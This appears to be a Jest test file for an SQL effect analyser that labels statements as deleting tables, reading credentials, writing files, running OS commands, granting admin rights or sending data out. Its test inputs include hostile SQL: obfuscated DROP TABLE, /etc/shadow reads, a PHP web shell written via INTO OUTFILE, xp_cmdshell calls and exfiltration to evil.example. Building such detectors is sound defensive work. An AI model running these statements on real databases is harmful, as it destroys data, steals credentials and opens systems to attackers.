import type { Effect } from '../../facts.js'
import { Machine, rootFrame, type Interpreter } from '../machine.js'
import { interpretSql } from './interpret.js'

/** Code of other languages is shown, not interpreted. */
const shown = (language: string): Interpreter => (source, frame, machine) => {
  machine.effect(frame, 'execute', { kind: 'code', class: 'inline', name: `${language}: ${source}`, tags: [] })
  return { taint: { sources: [], steps: [] } }
}
function run(sql: string): Machine {
  const machine = new Machine({}, (language) => (language === 'sql' ? interpretSql : shown(language)))
  interpretSql(sql, rootFrame('/Database/query', sql.length), machine)
  return machine
}
const line = ({ action, resource, certainty }: Effect): string =>
  `${certainty === 'certain' ? '' : `${certainty} `}${action} ${resource.kind}:${resource.class} ${resource.name}${resource.tags.length ? ` [${resource.tags.join(' ')}]` : ''}`
const effects = (sql: string): string[] => run(sql).effects.map(line)
const flows = (sql: string): string[] => run(sql).flows.map((f) => `${f.sources.map((s) => `${s.resource.kind}:${s.resource.class}`).join('+')} -> ${f.sink.action} ${f.sink.resource.kind}:${f.sink.resource.class}`)

type Table = readonly (readonly [sql: string, effects: readonly string[]])[]
const cases = (rows: Table): void => test.each(rows)('%s', (sql, expected) => expect(effects(sql)).toEqual(expected))

describe('deleting', () => {
  cases([
    ['DELETE FROM sessions', ['delete database:all-rows sessions [no-where]']],
    ['delete from "public"."sessions";', ['delete database:all-rows public.sessions [no-where]']],
    ['DELETE FROM `shop`.`orders` WHERE 1=1', ['delete database:all-rows shop.orders [tautology]']],
    ['DELETE FROM [dbo].[orders] WHERE TRUE', ['delete database:all-rows dbo.orders [tautology]']],
    ['DELETE FROM t WHERE id = id', ['delete database:all-rows t [tautology]']],
    ['DELETE FROM t WHERE id > 0', ['delete database:all-rows t [tautology]']],
    ["DELETE FROM t WHERE (name LIKE '%') AND NOT FALSE", ['delete database:all-rows t [tautology]']],
    ['DELETE FROM t LIMIT 18446744073709551615', ['delete database:all-rows t [no-where]']],
    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', ['delete database:all-rows t [no-where]']],
    ['TRUNCATE TABLE a, b RESTART IDENTITY CASCADE', ['delete database:all-rows a [truncate]', 'delete database:all-rows b [truncate]']],
    ['truncate orders', ['delete database:all-rows orders [truncate]']],
    ['DROP TABLE users', ['delete database:table users']],
    ['DROP TABLE IF EXISTS a, b CASCADE', ['delete database:table a', 'delete database:table b']],
    ['DROP/**/TABLE users', ['delete database:table users']],
    ['/*!50000 DROP TABLE users */', ['delete database:table users']],
    ['drop database shop', ['delete database:schema shop']],
    ['DROP SCHEMA public CASCADE', ['delete database:schema public']],
    ['SELECT 1; DROP DATABASE shop', ['delete database:schema shop']],
    ['SELECT 1\nDROP TABLE users\nGO\n', ['delete database:table users']],
    ["EXEC('DROP TABLE ' + 'users')", ['delete database:table users']],
    ["SET @a = CONCAT('DROP', ' TABLE users'); PREPARE s FROM @a; EXECUTE s", ['delete database:table users']],
    ["BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END;", ['delete database:table users']],
    ["DO $$ BEGIN EXECUTE 'TRUNCATE users'; END $$", ['delete database:all-rows users [truncate]']],
    ['IF EXISTS (SELECT 1) DROP TABLE t', ['conditional delete database:table t']],
    ["DROP USER 'old'@'localhost'", ['delete database:account old']],
  ])

  describe('and what is no loss', () => {
    cases([
      ['DELETE FROM sessions WHERE expires_at < now()', ['delete database:rows sessions']],
      ['DELETE FROM t WHERE id = 5', ['delete database:rows t']],
      ['DELETE FROM t WHERE id > 100', ['delete database:rows t']],
      ['DELETE FROM a USING b WHERE a.b_id = b.id', ['delete database:rows a']],
      ['DELETE o FROM orders o JOIN old x ON x.id = o.id', ['delete database:rows orders']],
      ['DELETE TOP (100) FROM logs', ['delete database:rows logs']],
      ['EXPLAIN DELETE FROM users', ['inert delete database:all-rows users [no-where]']],
      ['DROP TABLE IF EXISTS t; CREATE TABLE t (a int)', ['delete database:table t [recreated]', 'write database:ordinary t']],
      ['DROP TABLE t; ALTER TABLE t_new RENAME TO t', ['delete database:table t [recreated]']],
      ['DROP TEMPORARY TABLE t', ['delete database:table t [temporary]']],
      ['TRUNCATE TABLE #batch', ['delete database:all-rows #batch [truncate temporary]']],
      ['DROP INDEX CONCURRENTLY IF EXISTS i', ['delete database:ordinary i']],
      ['ALTER TABLE users DROP COLUMN age', ['delete database:ordinary users']],
      ['ALTER TABLE users DROP CONSTRAINT c', []],
      ['ALTER TABLE a ADD COLUMN b int REFERENCES c(id) ON DELETE CASCADE ON UPDATE SET NULL', []],
      ['CREATE FUNCTION purge() RETURNS void AS $$ DELETE FROM log $$ LANGUAGE sql', ['dead delete database:all-rows log [no-where]']],
      ['CREATE TRIGGER g AFTER DELETE ON t FOR EACH ROW BEGIN DELETE FROM u WHERE id = OLD.id; END', ['write database:ordinary g', 'conditional delete database:rows u']],
      ["-- DROP TABLE users\nSELECT 'DROP TABLE users'", []],
      ['drop table reservations for tonight', []],
      ['Delete from the list whatever is old', []],
      ['Delete multiple entities and what belongs to them from the graph', []],
    ])
  })

  test('a routine that the same text calls is not dead', () => {
    expect(effects('CREATE PROCEDURE purge AS BEGIN DELETE FROM log END\nGO\nEXEC purge')).toEqual(['conditional delete database:all-rows log [no-where]'])
  })

  test.each([
    ["DELETE FROM t WHERE id IN (SELECT id FROM t)"],
    ['DELETE FROM t WHERE COALESCE(1, 2) = 1'],
  ])('known miss: %s', (sql) => expect(effects(sql).some((e) => e.includes('all-rows'))).toBe(false))
})

describe('changing', () => {
  cases([
    ['UPDATE users SET role = 1', ['write database:all-rows users [no-where]']],
    ["UPDATE users SET password = 'x'", ['write database:all-rows users [no-where]', 'write database:credentials users [no-where]']],
    ["UPDATE users SET password = 'x' WHERE id = 3", ['write database:rows users']],
    ['UPDATE a SET x = b.x FROM b WHERE a.id = b.id', ['write database:rows a']],
    ['UPDATE t SET a = 1 WHERE id = 1 OR 1=1', ['write database:all-rows t [tautology]', 'execute database:injection update [tautology]']],
    ['INSERT INTO t (a) VALUES (1), (2); INSERT INTO t (a) VALUES (3)', ['write database:rows t']],
    ['INSERT INTO t SELECT * FROM s WHERE x = 1 ON CONFLICT (id) DO UPDATE SET a = 1', ['write database:rows t', 'read database:rows s']],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1 WHEN NOT MATCHED THEN INSERT (a) VALUES (1)', ['write database:rows t']],
    ["INSERT INTO mysql.user (user, host) VALUES ('a', '%')", ['write database:rows mysql.user [system-table]', 'configure database:account mysql.user [system-table]']],
    ['CREATE TABLE t (id int primary key, password_hash text)', ['write database:ordinary t']],
    ["INSERT INTO audit (query) VALUES (''' OR 1=1 --')", ['write database:rows audit']],
    ['Update the docs', []],
    ['BEGIN; UPDATE a SET b = b - 1 WHERE id = 1; COMMIT;', ['write database:rows a']],
  ])
})

describe('reading credentials and catalogues', () => {
  cases([
    ['SELECT user, authentication_string FROM mysql.user', ['read database:credentials mysql.user [all system-table]']],
    ['SELECT * FROM pg_shadow', ['read database:credentials pg_shadow [all system-table]']],
    ['SELECT rolname, rolpassword FROM pg_catalog.pg_authid', ['read database:credentials pg_catalog.pg_authid [all system-table]']],
    ['SELECT name, password_hash FROM sys.sql_logins', ['read database:credentials sys.sql_logins [all system-table]']],
    ['SELECT name, spare4 FROM sys.user$', ['read database:credentials sys.user$ [all system-table]']],
    ['SELECT email, password_hash FROM users', ['read database:credentials users [all]']],
    ['SELECT u.email, u.api_key FROM accounts AS u ORDER BY 1', ['read database:credentials accounts [all]']],
    ['SELECT * FROM api_keys', ['read database:credentials api_keys [all]']],
    ['SELECT email, password FROM users LIMIT 100000', ['read database:credentials users [all]']],
    ['SELECT email, password FROM users WHERE 1=1', ['read database:credentials users [all]']],
    ["SELECT database_to_xml(true, true, '')", ['read database:dump database_to_xml [all]']],
    ['SELECT table_name FROM information_schema.tables', ['read database:metadata information_schema.tables [all system-table]']],
    ["SELECT name FROM sqlite_master WHERE type = 'table'", ['read database:metadata sqlite_master [system-table]']],
    ['SELECT table_name FROM user_tables', ['read database:metadata user_tables [all system-table]']],
    ['SELECT version()', ['read database:metadata version [system-table]']],
    ['SHOW TABLES', ['read database:metadata tables [system-table]']],
  ])

  describe('and ordinary reads', () => {
    cases([
      ['SELECT id, password_hash FROM users WHERE email = $1', ['read database:rows users']],
      ['SELECT id, password_hash FROM users WHERE email = ? LIMIT 1', ['read database:rows users']],
      ['SELECT * FROM users', ['read database:rows users [all]']],
      ['SELECT count(password) FROM users', ['read database:rows users']],
      ['SELECT count(*), email FROM users', ['read database:rows users [all]']],
      ['SELECT password IS NOT NULL AS has_password FROM users', ['read database:rows users [all]']],
      ['SELECT user, host FROM mysql.user', ['read database:metadata mysql.user [all system-table]']],
      ['SELECT rolname, rolsuper FROM pg_roles', ['read database:metadata pg_roles [all system-table]']],
      ['SELECT * FROM user_roles', ['read database:rows user_roles [all]']],
      ['SELECT * FROM all_orders LIMIT 10', ['read database:rows all_orders']],
      ['WITH x AS (SELECT id FROM t WHERE a) SELECT * FROM x', ['read database:rows t']],
      ['SELECT EXTRACT(YEAR FROM created) FROM t WHERE a = 1', ['read database:rows t']],
      ['SELECT 1 FROM dual', []],
    ])
  })
})

describe('files', () => {
  cases([
    ["SELECT pg_read_file('/etc/shadow')", ['read database:file /etc/shadow', 'read path:password-store /etc/shadow [system]']],
    ["SELECT LOAD_FILE('/etc/shadow')", ['read database:file /etc/shadow', 'read path:password-store /etc/shadow [system]']],
    ["SELECT load_file(0x2f6574632f736861646f77)", ['read database:file /etc/shadow', 'read path:password-store /etc/shadow [system]']],
    ["SELECT LOAD_FILE(CHAR(47,101,116,99,47,115,104,97,100,111,119))", ['read database:file /etc/shadow', 'read path:password-store /etc/shadow [system]']],
    ["COPY t FROM '/etc/shadow'", ['write database:rows t', 'read database:file /etc/shadow', 'read path:password-store /etc/shadow [system]']],
    ["SELECT '<?php eval($_GET[1]);' INTO OUTFILE '/srv/www/x.php'", ['write database:file /srv/www/x.php', 'write path:ordinary /srv/www/x.php']],
    ["COPY (SELECT '* * * * * root id') TO '/etc/cron.d/x'", ['write database:file /etc/cron.d/x', 'write path:cron /etc/cron.d/x [system]']],
    ["SELECT lo_export(16444, '/tmp/a.so')", ['write database:file /tmp/a.so', 'write path:ordinary /tmp/a.so [temporary scratch]']],
    ["ATTACH DATABASE '/srv/www/x.php' AS x", ['write database:file /srv/www/x.php', 'write path:ordinary /srv/www/x.php']],
    ["VACUUM INTO '/srv/www/x.php'", ['read database:dump  [all]', 'write database:file /srv/www/x.php', 'write path:ordinary /srv/www/x.php']],
    ["SET GLOBAL general_log_file = '/srv/www/x.php'", ['write database:file /srv/www/x.php', 'write path:ordinary /srv/www/x.php']],
    ["EXEC xp_dirtree '\\\\203.0.113.9\\s'", ['list database:file \\\\203.0.113.9\\s [network-share]', 'connect host:raw-ip 203.0.113.9 [network-share]']],
  ])

  describe('that tables are made of', () => {
    cases([
      ["COPY t FROM '/data/in.csv' CSV", ['write database:rows t', 'read path:ordinary /data/in.csv']],
      ['COPY t FROM STDIN', ['write database:rows t']],
      ["COPY (SELECT * FROM t WHERE a) TO '/data/out.csv'", ['read database:rows t', 'write path:ordinary /data/out.csv']],
      ["SELECT * FROM t WHERE a INTO OUTFILE '/data/out.csv'", ['read database:rows t', 'write path:ordinary /data/out.csv']],
      ["LOAD DATA LOCAL INFILE '/data/in.csv' INTO TABLE t", ['read path:ordinary /data/in.csv']],
      ["BULK INSERT t FROM '/data/in.csv'", ['read path:ordinary /data/in.csv']],
      ["ATTACH DATABASE '/data/other.db' AS o", ['read path:ordinary /data/other.db']],
      ["ATTACH ':memory:' AS m", []],
      ["SELECT * FROM read_csv('/data/in.csv')", ['read path:ordinary /data/in.csv']],
      ["SELECT hex(randomblob(16))", []],
    ])
  })
})

describe('out of the database', () => {
  cases([
    ["EXEC master..xp_cmdshell 'whoami'", ['execute database:os xp_cmdshell', 'execute code:inline cmd: whoami']],
    ["xp_cmdshell 'whoami'", ['execute database:os xp_cmdshell', 'execute code:inline cmd: whoami']],
    ["DECLARE @c varchar(99) = 'who' + 'ami'; EXEC xp_cmdshell @c", ['execute database:os xp_cmdshell', 'execute code:inline cmd: whoami']],
    ["COPY t FROM PROGRAM 'id'", ['write database:rows t', 'execute database:os copy program', 'execute code:inline sh: id']],
    ["SELECT sys_exec('id')", ['execute database:os sys_exec', 'execute code:inline sh: id']],
    ["DO LANGUAGE plpython3u $$import os$$", ['execute database:os plpython3u', 'execute code:inline python: import os']],
    ["CREATE FUNCTION f() RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE C", ['configure database:os /lib/libc.so.6']],
    ["CREATE FUNCTION sys_eval RETURNS string SONAME 'udf.so'", ['configure database:os udf.so']],
    ['CREATE EXTENSION plpythonu', ['configure database:os plpythonu']],
    ["EXEC sp_configure 'xp_cmdshell', 1", ['configure database:os xp_cmdshell']],
    ["EXEC sp_OACreate 'wscript.shell', @s OUT; EXEC sp_OAMethod @s, 'run', NULL, 'calc'", ['execute database:os sp_oacreate', 'execute database:os sp_oamethod', 'execute code:inline cmd: calc']],
    ["EXEC sp_execute_external_script @language = N'Python', @script = N'import os'", ['execute database:os sp_execute_external_script', 'execute code:inline python: import os']],
    ["BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name => 'j', job_type => 'EXECUTABLE', job_action => '/bin/id'); END;", ['execute database:os dbms_scheduler', 'execute code:inline sh: /bin/id']],
    ["SELECT load_extension('/tmp/evil')", ['execute database:os /tmp/evil [load]']],
    ["ALTER SYSTEM SET archive_command = 'id'", ['configure database:ordinary archive_command', 'conditional execute code:inline sh: id']],
    ["SELECT dblink_connect('host=203.0.113.9 user=u')", ['connect host:raw-ip 203.0.113.9']],
    ["SELECT * FROM dblink('host=203.0.113.9', 'DROP TABLE t')", ['connect host:raw-ip 203.0.113.9', 'delete database:table t']],
    ["DECLARE @q varchar(99) = 0x44524f50205441424c4520740a; EXEC(@q)", ['delete database:table t', 'execute code:decoded sql']],
  ])

  describe('and administration that stays inside', () => {
    cases([
      ["EXEC sp_configure 'show advanced options', 1; RECONFIGURE", ['configure database:ordinary show advanced options']],
      ["EXEC sp_configure 'xp_cmdshell', 0", ['configure database:ordinary xp_cmdshell']],
      ['CREATE EXTENSION IF NOT EXISTS pgcrypto', []],
      ["CREATE FUNCTION f(vector) RETURNS int AS 'MODULE_PATHNAME', 'f' LANGUAGE C", []],
      ["SELECT load_extension('mod_spatialite')", ['configure database:ordinary mod_spatialite']],
      ['EXEC dbo.usp_report @year = 2024', []],
      ["SELECT system FROM t WHERE system = 'a'", ['read database:rows t']],
      ["DECLARE @s nvarchar(max) = N'SELECT a' + CHAR(13) + CHAR(10) + N'FROM t WHERE b = 1'; EXEC sp_executesql @s", ['read database:rows t']],
      ["ALTER SYSTEM SET work_mem = '64MB'", ['configure database:ordinary work_mem']],
      ['SET search_path TO public; SET NAMES utf8', []],
    ])
  })

  test.each([
    ["COPY users TO PROGRAM 'cat'", ['database:rows -> execute database:os']],
    ["COPY (SELECT * FROM users) TO '/data/u.csv'", ['database:rows -> write path:ordinary']],
    ["SELECT UTL_HTTP.REQUEST('http://evil.example/' || (SELECT a FROM t WHERE b)) FROM dual", ['database:rows -> send host:public']],
    ["SELECT LOAD_FILE(CONCAT('\\\\\\\\', VERSION(), '.evil.example\\\\a'))", ['database:metadata -> send host:public']],
    ["UNLOAD ('SELECT * FROM users') TO 's3://bucket/u'", ['database:rows -> send host:storage']],
    ["BACKUP DATABASE d TO DISK = '\\\\203.0.113.9\\s\\d.bak'", ['database:dump -> send host:raw-ip']],
    ['SELECT * FROM t; SELECT UTL_HTTP.REQUEST(\'http://a.example/\') FROM dual', []],
  ])('data flows: %s', (sql, expected) => expect(flows(sql)).toEqual(expected))

  test('the reads are what the client prints', () => {
    const machine = new Machine({}, () => interpretSql)
    const { taint } = interpretSql('SELECT * FROM users; SELECT 1', rootFrame('/q', 29), machine)
    expect(taint.sources.map(line)).toEqual(['read database:rows users [all]'])
  })
  test('a SELECT of text alone prints that text', () => {
    expect(interpretSql("SELECT unhex('6964')", rootFrame('/q', 20), new Machine({}, () => interpretSql)).text).toBe('id\n')
  })
  test('an EXEC of what nobody knows is opaque', () => {
    expect(run('EXEC(@sql)').opaques.map((o) => o.reason)).toEqual(['runtime-value'])
  })
})

describe('accounts and permissions', () => {
  cases([
    ["GRANT ALL PRIVILEGES ON *.* TO 'a'@'%'", ['grant permission:database-admin a']],
    ['GRANT DBA TO scott', ['grant permission:database-admin scott']],
    ['GRANT pg_execute_server_program TO app', ['grant permission:database-admin app']],
    ['ALTER ROLE app SUPERUSER', ['configure database:account app', 'grant permission:database-admin app']],
    ['ALTER SERVER ROLE sysadmin ADD MEMBER [evil]', ['grant permission:database-admin evil']],
    ["EXEC sp_addsrvrolemember 'evil', 'sysadmin'", ['grant permission:database-admin evil']],
    ["CREATE USER app WITH PASSWORD 'x'", ['configure database:account app']],
    ["ALTER USER postgres PASSWORD 'x'", ['configure database:account postgres [system]']],
    ['GRANT SELECT, INSERT ON ALL TABLES IN SCHEMA public TO app', ['grant permission:ordinary app']],
    ["GRANT ALL PRIVILEGES ON shop.* TO 'app'@'localhost'", ['grant permission:ordinary app']],
    ['GRANT app_reader TO ann', ['grant permission:ordinary ann']],
    ['GRANT CONTROL ON SCHEMA::dbo TO app', ['grant permission:ordinary app']],
    ['REVOKE ALL ON t FROM public', []],
  ])
})

describe('logs and services', () => {
  cases([
    ['NOAUDIT ALL', ['configure service:logging database audit [remove]']],
    ['ALTER SERVER AUDIT a WITH (STATE = OFF)', ['configure service:logging database audit [remove]']],
    ["ALTER SYSTEM SET pgaudit.log = 'none'", ['configure service:logging pgaudit.log [remove]']],
    ["PURGE BINARY LOGS BEFORE '2024-01-01'", ['delete log:system binary log']],
    ['SHUTDOWN WITH NOWAIT', ['stop service:database database server']],
    ['SET @@SESSION.SQL_LOG_BIN = 0', []],
    ['ALTER SERVER AUDIT a WITH (STATE = ON)', []],
  ])
})

describe('positions', () => {
  test.each([
    ['SELECT 1; DROP TABLE t;', 'DROP TABLE t'],
    ["EXEC('DELETE FROM t')", 'DELETE FROM t'],
    ['DO $x$ DELETE FROM t $x$', 'DELETE FROM t'],
    ["EXEC('DELETE FROM t' + '')", "'DELETE FROM t' + ''"],
  ])('%s', (sql, expected) => {
    const effect = run(sql).effects.find((e) => e.action === 'delete')!
    expect(sql.slice(effect.span.start, effect.span.end)).toBe(expected)
  })
  test('are offset where the text is a part of the input', () => {
    const machine = new Machine({}, () => interpretSql)
    const input = 'psql -c "DROP TABLE t"'
    interpretSql('DROP TABLE t', { ...rootFrame('/c', input.length), offset: 9 }, machine)
    expect(machine.effects.map((e) => input.slice(e.span.start, e.span.end))).toEqual(['DROP TABLE t'])
  })
})
